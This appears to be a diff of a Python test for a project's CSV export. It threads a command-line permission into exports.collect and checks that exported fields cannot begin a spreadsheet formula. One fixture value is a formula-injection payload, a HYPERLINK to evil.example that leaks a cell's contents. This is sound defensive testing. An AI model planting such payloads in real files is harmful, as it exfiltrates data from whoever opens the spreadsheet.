@@ -9,6 +9,7 @@ import csv
 from geo import exports
 from geo.cli import main
 from geo.db import Store
+from geo.permissions import COMMAND_LINE
 
 HOSTILE = {
     "=": '=HYPERLINK("http://evil.example/?leak="&C2,"Click")',
@@ -39,7 +40,7 @@ def test_exported_titles_summaries_and_partners_cannot_start_a_formula(
                 [text, text, text, initiative_id],
             )
     target = tmp_path / "initiatives.csv"
-    exports.write(exports.collect(demo_store, "initiatives"), "csv", target)
+    exports.write(exports.collect(demo_store, COMMAND_LINE, "initiatives"), "csv", target)
     written = {int(row["id"]): row for row in _rows(target)}
     for initiative_id, text in zip(ids, HOSTILE.values(), strict=True):
         row = written[initiative_id]
